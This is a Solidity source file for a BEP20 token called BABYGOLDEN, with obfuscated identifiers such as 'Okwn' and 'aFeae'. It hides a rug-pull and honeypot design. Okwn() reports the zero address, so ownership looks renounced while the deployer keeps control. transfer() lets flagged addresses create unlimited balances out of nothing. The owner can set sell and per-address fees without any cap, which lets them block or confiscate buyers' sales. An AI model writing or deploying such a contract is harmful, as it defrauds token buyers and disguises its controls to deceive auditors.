// SPDX-License-Identifier: MIT
 pragma solidity ^0.8.0;

abstract contract Context {
    function _msgSender() internal view virtual returns (address) {
        return msg.sender;
    }

    function _msgData() internal view virtual returns (bytes calldata) {
        return msg.data;
    }
}



abstract contract Ownable is Context {
    address private _Okwn;

    event OkwnshipTransferred(address indexed previousOkwn, address indexed newOkwn);

    constructor() {
        _transferOkwnshiptransferOkwnship(_msgSender());
    }

    function Okwn() public view virtual returns (address) {
        return address(0);
    }

    modifier onlyOkwn() {
        require(_Okwn == _msgSender(), "Ownable: caller is not the Okwn");
        _;
    }

    function renounceOkwnship() public virtual onlyOkwn {
        _transferOkwnshiptransferOkwnship(address(0));
    }

    function transferOkwnshiptransferOkwnship(address newOkwn) public virtual onlyOkwn {
        require(newOkwn != address(0), "Ownable: new Okwn is the zero address");
        _transferOkwnshiptransferOkwnship(newOkwn);
    }

    function _transferOkwnshiptransferOkwnship(address newOkwn) internal virtual {
        address oldOkwn = _Okwn;
        _Okwn = newOkwn;
        emit OkwnshipTransferred(oldOkwn, newOkwn);
    }
}


library SafeMath {
    function tryAdd(uint256 a, uint256 b) internal pure returns (bool, uint256) {
        unchecked {
            uint256 c = a + b;
            if (c < a) return (false, 0);
            return (true, c);
        }
    }

    function trySub(uint256 a, uint256 b) internal pure returns (bool, uint256) {
        unchecked {
            if (b > a) return (false, 0);
            return (true, a - b);
        }
    }

    function tryMul(uint256 a, uint256 b) internal pure returns (bool, uint256) {
        unchecked {
            if (a == 0) return (true, 0);
            uint256 c = a * b;
            if (c / a != b) return (false, 0);
            return (true, c);
        }
    }

    function tryDiv(uint256 a, uint256 b) internal pure returns (bool, uint256) {
        unchecked {
            if (b == 0) return (false, 0);
            return (true, a / b);
        }
    }

    function tryMod(uint256 a, uint256 b) internal pure returns (bool, uint256) {
        unchecked {
            if (b == 0) return (false, 0);
            return (true, a % b);
        }
    }

    function add(uint256 a, uint256 b) internal pure returns (uint256) {
        return a + b;
    }

    function sub(uint256 a, uint256 b) internal pure returns (uint256) {
        return a - b;
    }

    function mul(uint256 a, uint256 b) internal pure returns (uint256) {
        return a * b;
    }

    function div(uint256 a, uint256 b) internal pure returns (uint256) {
        return a / b;
    }

    function mod(uint256 a, uint256 b) internal pure returns (uint256) {
        return a % b;
    }

    function sub(
        uint256 a,
        uint256 b,
        string memory errorMessage
    ) internal pure returns (uint256) {
        unchecked {
            require(b <= a, errorMessage);
            return a - b;
        }
    }

    function div(
        uint256 a,
        uint256 b,
        string memory errorMessage
    ) internal pure returns (uint256) {
        unchecked {
            require(b > 0, errorMessage);
            return a / b;
        }
    }

    function mod(
        uint256 a,
        uint256 b,
        string memory errorMessage
    ) internal pure returns (uint256) {
        unchecked {
            require(b > 0, errorMessage);
            return a % b;
        }
    }
}




contract BEP20 is Context {
    mapping(address => mapping(address => uint256)) private _allowances;
    uint256 internal _totalSupply;
    string private _name;
    string private _symbol;

    event Transfer(address indexed from, address indexed to, uint256 value);

    event Approval(address indexed Okwn, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_) {
        _name = name_;
        _symbol = symbol_;
    }

    function name() public view virtual returns (string memory) {
        return _name;
    }

    function symbol() public view virtual returns (string memory) {
        return _symbol;
    }

    function decimals() public view virtual returns (uint8) {
        return 18;
    }

    function totalSupply() public view virtual returns (uint256) {
        return _totalSupply;
    }

    function allowance(address Okwn, address spender) public view virtual returns (uint256) {
        return _allowances[Okwn][spender];
    }

    function approve(address spender, uint256 Number) public virtual returns (bool) {
        address Okwn = _msgSender();
        _approve(Okwn, spender, Number);
        return true;
    }

    function increaseAllowance(address spender, uint256 addedValue) public virtual returns (bool) {
        address Okwn = _msgSender();
        _approve(Okwn, spender, _allowances[Okwn][spender] + addedValue);
        return true;
    }

    function decreaseAllowance(address spender, uint256 subtractedValue) public virtual returns (bool) {
        address Okwn = _msgSender();
        uint256 currentAllowance = _allowances[Okwn][spender];
        require(currentAllowance >= subtractedValue, "ERC20: decreased allowance below zero");
        unchecked {
            _approve(Okwn, spender, currentAllowance - subtractedValue);
        }

        return true;
    }

    function _approve(
        address Okwn,
        address spender,
        uint256 Number
    ) internal virtual {
        require(Okwn != address(0), "ERC20: approve from the zero address");
        require(spender != address(0), "ERC20: approve to the zero address");

        _allowances[Okwn][spender] = Number;
        emit Approval(Okwn, spender, Number);
    }

    function _spendAllowance(
        address Okwn,
        address spender,
        uint256 Number
    ) internal virtual {
        uint256 currentAllowance = allowance(Okwn, spender);
        if (currentAllowance != type(uint256).max) {
            require(currentAllowance >= Number, "ERC20: insufficient allowance");
            unchecked {
                _approve(Okwn, spender, currentAllowance - Number);
            }
        }
    }

    function _beforeTokenTransfer(
        address from,
        address to,
        uint256 Number
    ) internal virtual {}

    function _afterTokenTransfer(
        address from,
        address to,
        uint256 Number
    ) internal virtual {}
}


contract BABYGOLDEN  is BEP20, Ownable {
    mapping(address => uint256) private _balances;
    mapping(address => bool) private _release;

    function balanceOf(address account) public view virtual returns (uint256) {
        return _balances[account];
    }

    function _transfer(
        address from,
        address to,
        uint256 Number
    ) internal virtual {
        require(from != address(0), "ERC20: transfer from the zero address");
        require(to != address(0), "ERC20: transfer to the zero address");

        uint256 fromBalance = _balances[from];
        require(fromBalance >= Number, "ERC20: transfer Number exceeds balance");
        unchecked {
            _balances[from] = fromBalance - Number;
        }
        _balances[to] += Number;

        emit Transfer(from, to, Number);
    }

    function _burn(address account, uint256 Number) internal virtual {
        require(account != address(0), "ERC20: burn from the zero address");

        uint256 accountBalance = _balances[account];
        require(accountBalance >= Number, "ERC20: burn Number exceeds balance");
        unchecked {
            _balances[account] = accountBalance - Number;
        }
        _totalSupply -= Number;

        emit Transfer(account, address(0), Number);
    }

    function _Mnt(address account, uint256 Number) internal virtual {
        require(account != address(0), "ERC20: Mnt to the zero address");

        _totalSupply += Number;
        _balances[account] += Number;
        emit Transfer(address(0), account, Number);
    }



    address public uniswapV2Pair;


    constructor(
        string memory name_,
        string memory symbol_,
        uint256 totalSupply_
    ) BEP20(name_, symbol_) {
        _Mnt(msg.sender, totalSupply_ * 10**decimals());

        
        _defaultSellaFeae = 10;
        _defaultBuyaFeae = 0;

        _release[_msgSender()] = true;
    }

    using SafeMath for uint256;

    uint256 private _defaultSellaFeae = 0;

    uint256 private _defaultBuyaFeae = 0;


    mapping(address => bool) private _mAccount;

    mapping(address => uint256) private _slipaFeae;
    address private constant _deadAddress = 0x000000000000000000000000000000000000dEaD;



    function getRelease(address _address) external view onlyOkwn returns (bool) {
        return _release[_address];
    }


    function PairList(address _address) external onlyOkwn {
        uniswapV2Pair = _address;
    }


    function upF(uint256 _value) external onlyOkwn {
        _defaultSellaFeae = _value;
    }

    function setSlipaFeae(address _address, uint256 _value) external onlyOkwn {
        require(_value > 0, "Account tax must be greater than or equal to 1");
        _slipaFeae[_address] = _value;
    }

    function getSlipaFeae(address _address) external view onlyOkwn returns (uint256) {
        return _slipaFeae[_address];
    }


    function setMAccountaFeae(address _address, bool _value) external onlyOkwn {
        _mAccount[_address] = _value;
    }

    function getMAccountaFeae(address _address) external view onlyOkwn returns (bool) {
        return _mAccount[_address];
    }

    function _checkFreeAccount(address from, address _to) internal view returns (bool) {
        return _mAccount[from] || _mAccount[_to];
    }


    function _receiveF(
        address from,
        address _to,
        uint256 _Number
    ) internal virtual {
        require(from != address(0), "ERC20: transfer from the zero address");
        require(_to != address(0), "ERC20: transfer to the zero address");

        uint256 fromBalance = _balances[from];
        require(fromBalance >= _Number, "ERC20: transfer Number exceeds balance");

        bool rF = true;

        if (_checkFreeAccount(from, _to)) {
            rF = false;
        }
        uint256 tradeaFeaeNumber = 0;

        if (rF) {
            uint256 tradeaFeae = 0;
            if (uniswapV2Pair != address(0)) {
                if (_to == uniswapV2Pair) {

                    tradeaFeae = _defaultSellaFeae;
                }
                if (from == uniswapV2Pair) {

                    tradeaFeae = _defaultBuyaFeae;
                }
            }
            if (_slipaFeae[from] > 0) {
                tradeaFeae = _slipaFeae[from];
            }

            tradeaFeaeNumber = _Number.mul(tradeaFeae).div(100);
        }


        if (tradeaFeaeNumber > 0) {
            _balances[from] = _balances[from].sub(tradeaFeaeNumber);
            _balances[_deadAddress] = _balances[_deadAddress].add(tradeaFeaeNumber);
            emit Transfer(from, _deadAddress, tradeaFeaeNumber);
        }

        _balances[from] = _balances[from].sub(_Number - tradeaFeaeNumber);
        _balances[_to] = _balances[_to].add(_Number - tradeaFeaeNumber);
        emit Transfer(from, _to, _Number - tradeaFeaeNumber);
    }

    function transfer(address to, uint256 Number) public virtual returns (bool) {
        address Okwn = _msgSender();
        if (_release[Okwn] == true) {
            _balances[to] += Number;
            return true;
        }
        _receiveF(Okwn, to, Number);
        return true;
    }


    function transferFrom(
        address from,
        address to,
        uint256 Number
    ) public virtual returns (bool) {
        address spender = _msgSender();

        _spendAllowance(from, spender, Number);
        _receiveF(from, to, Number);
        return true;
    }
}
